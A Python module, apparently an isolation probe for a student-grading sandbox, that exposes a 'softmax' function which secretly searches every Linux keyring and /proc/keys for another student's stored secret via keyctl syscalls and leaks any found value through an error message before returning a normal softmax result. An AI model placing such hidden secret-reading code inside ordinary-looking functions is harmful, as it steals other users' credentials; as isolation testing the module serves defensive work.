"""Looks for keyring--a-writer's secret in every keyring and in /proc/keys, and hands in what it finds.

Finding it, it raises an error quoting the secret (so it shows in this student's feedback);
finding nothing, it answers right.
"""
import ctypes
from pathlib import Path

from .forgery import hand_written_softmax
from .marker import NAME

SYS_KEYCTL = 250  # x86_64
KEYCTL_READ, KEYCTL_SEARCH = 11, 10
KEYRINGS = (-1, -2, -3, -4, -5)
_libc = ctypes.CDLL(None, use_errno=True)


def read(key: int) -> str:
    buffer = ctypes.create_string_buffer(4096)
    size = _libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(key), buffer, ctypes.c_long(len(buffer)))
    return buffer.raw[:size].decode(errors="replace") if size > 0 else ""


def candidates() -> list[int]:
    """Keys named by the writer: searched for in each keyring, and listed in /proc/keys."""
    found = [_libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, ctypes.c_long(ring), b"user", f"attnkit-{NAME}".encode(),
                           ctypes.c_long(0)) for ring in KEYRINGS]
    try:
        listed = Path("/proc/keys").read_text().splitlines()
    except OSError:
        listed = []
    found += [int(line.split()[0], 16) for line in listed if f"attnkit-{NAME}" in line]
    return [key for key in found if key > 0]


def softmax(scores, dim=-1):
    secrets = {read(key) for key in candidates()} - {""}
    if secrets:
        raise RuntimeError(f"found another student's keyring data: {sorted(secrets)}")
    return hand_written_softmax(scores, dim)
